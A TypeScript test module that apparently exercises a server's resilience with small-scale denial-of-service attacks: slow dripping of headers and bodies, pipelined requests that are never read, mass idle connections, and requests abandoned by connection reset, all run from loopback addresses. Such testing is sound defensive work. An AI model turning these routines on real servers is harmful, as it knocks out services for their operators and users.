/**
 * Attacks that a single visitor can make with small means, for tests and for the rehearsal. Each runs until its signal
 * is aborted, and leaves no connection open.
 */
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Target } from './sockets.ts'

/** @returns how many connections it used */
export type Attack = (target: Target, signal: AbortSignal) => Promise<number>

/** A call as sent over the connection. */
export type RawCall = string

const headLines = (headers: Readonly<Record<string, string>>): string =>
  Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')

export const rawGet = (path: string, headers: Readonly<Record<string, string>> = {}): RawCall =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\n${headLines(headers)}\r\n`

export function rawPost(path: string, body: unknown, headers: Readonly<Record<string, string>> = {}): RawCall {
  const text = JSON.stringify(body)
  const type = { 'Content-Type': 'application/json', 'Content-Length': String(Buffer.byteLength(text)) }
  return `POST ${path} HTTP/1.1\r\nHost: x\r\n${headLines({ ...headers, ...type })}\r\n${text}`
}

/** The n-th loopback address, so that attackers and buyers have different ones. macOS has only the first. */
export const localAddress = (n: number): string | undefined =>
  process.platform === 'darwin' ? undefined : `127.0.${40 + ((n >> 8) & 127)}.${1 + (n % 250)}`

type WatchedSocket = { socket: Socket; open: boolean; closed: Promise<void> }

/** Opens a connection from the n-th address and waits until it is open or has failed. */
async function opened({ host, port }: Target, n: number): Promise<WatchedSocket> {
  const address = localAddress(n)
  const socket = connect({ host, port, ...(address && { localAddress: address }) })
  socket.on('error', () => {})
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
  const standing = new Promise<boolean>((resolve) => socket.once('connect', () => resolve(true)))
  return { socket, open: await Promise.race([standing, closed.then(() => false)]), closed }
}

const aborted = (signal: AbortSignal): Promise<void> =>
  new Promise((resolve) => {
    if (signal.aborted) resolve()
    else signal.addEventListener('abort', () => resolve(), { once: true })
  })

/** Keeps this many connections busy with `use`, repeatedly. All are closed in the end. */
async function keepBusy(
  target: Target,
  signal: AbortSignal,
  connections: number,
  use: (opened: WatchedSocket, end: Promise<void>) => Promise<void>,
  addressOf: (n: number) => number = (n) => n,
): Promise<number> {
  let count = 0
  const end = aborted(signal)
  const again = async () => {
    while (!signal.aborted) {
      count += 1
      const connection = await opened(target, addressOf(count))
      if (connection.open) await use(connection, end)
      else await wait(50)
      connection.socket.resetAndDestroy()
      await connection.closed
    }
  }
  await Promise.all(Array.from({ length: connections }, again))
  return count
}

/** A delay within which the call is still being served, ms. */
const soon = () => Math.random() * 8

/** Sends a call and resets the connection within 8 ms. */
export async function abandon(target: Target, call: RawCall): Promise<void> {
  const { socket, open, closed } = await opened(target, 0)
  if (open) {
    socket.write(call)
    await wait(soon())
  }
  socket.resetAndDestroy()
  await closed
}

/** Sends one call after the other and resets the connection within 8 ms. @param pause ms until the next one */
export function vanishing(calls: readonly RawCall[], { abusers = 8, pause = 0 } = {}): Attack {
  let at = 0
  return (target, signal) =>
    keepBusy(target, signal, abusers, async ({ socket }) => {
      at += 1
      socket.write(calls[at % calls.length]!)
      await wait(soon())
      socket.resetAndDestroy()
      await wait(pause)
    })
}

/** Sends these bytes on each connection, then a piece at intervals, and reads the answers. */
function drip(start: string, piece: () => string, connections: number, every: number): Attack {
  return (target, signal) =>
    keepBusy(target, signal, connections, async ({ socket, closed }, end) => {
      const dripped = setInterval(() => socket.write(piece()), every)
      socket.write(start)
      socket.resume()
      await Promise.race([closed, end])
      clearInterval(dripped)
    })
}

/** Announces a long body on each connection and sends a byte of it at intervals. */
export function drippingBodies(path: string, { connections = 70, every = 100, method = 'POST' } = {}): Attack {
  const head = rawPost(path, '')
    .replace('POST', method)
    .replace(/Content-Length: \d+\r\n\r\n.*/, 'Content-Length: 200000\r\n\r\n')
  return drip(head, () => ' ', connections, every)
}

/** Begins a call on each connection and sends a header at intervals, never the last one. */
export function drippingHeads(path: string, { connections = 70, every = 100 } = {}): Attack {
  return drip(`GET ${path} HTTP/1.1\r\nHost: x\r\n`, () => 'X: x\r\n', connections, every)
}

/** Pipelines as much as each connection takes, and reads no answer. */
export function neverReading(call: RawCall, { connections = 60, atOnce = 20 } = {}): Attack {
  const batch = call.repeat(atOnce)
  return (target, signal) =>
    keepBusy(target, signal, connections, async ({ socket, closed }, end) => {
      socket.pause()
      const asked = setInterval(() => {
        if (!socket.writableNeedDrain) socket.write(batch)
      }, 10)
      await Promise.race([closed, end])
      clearInterval(asked)
    })
}

/** Opens connections from one address as fast as possible, and holds them silently. */
export function crowding({ connections = 500 } = {}): Attack {
  return (target, signal) =>
    keepBusy(
      target,
      signal,
      connections,
      async ({ closed }, end) => {
        await Promise.race([closed, end])
        await Promise.race([wait(100), end])
      },
      () => 0,
    )
}
